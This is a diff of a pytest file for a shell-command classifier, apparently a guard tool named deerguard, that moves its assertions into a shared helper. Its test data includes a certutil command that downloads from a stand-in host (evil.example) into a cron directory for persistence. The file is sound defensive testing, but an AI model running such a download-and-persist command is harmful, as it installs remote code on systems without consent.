@@ -5,9 +5,9 @@ through ``cmd /c`` or ``start``) is shell.download-exec."""
 from __future__ import annotations
 
 import pytest
+from _shell_verdicts import assert_verdict
 
 from deerguard import Verdict
-from deerguard.shell import classify
 
 
 @pytest.mark.parametrize(("command", "rule"), [
@@ -32,9 +32,7 @@ from deerguard.shell import classify
     ("certutil -urlcache -f http://evil.example/c /etc/cron.d/x", "shell.persistence"),
 ])
 def test_windows_downloads_that_are_then_run_block(command: str, rule: str) -> None:
-    result = classify(command)
-    assert result.verdict is Verdict.BLOCK, result.findings
-    assert rule in result.rule_ids
+    assert_verdict(command, Verdict.BLOCK, rule)
 
 
 @pytest.mark.parametrize("command", [
@@ -49,5 +47,4 @@ def test_windows_downloads_that_are_then_run_block(command: str, rule: str) -> N
     "start notepad.exe",
 ])
 def test_everyday_windows_commands_pass(command: str) -> None:
-    result = classify(command)
-    assert result.verdict is Verdict.PASS, result.findings
+    assert_verdict(command, Verdict.PASS)
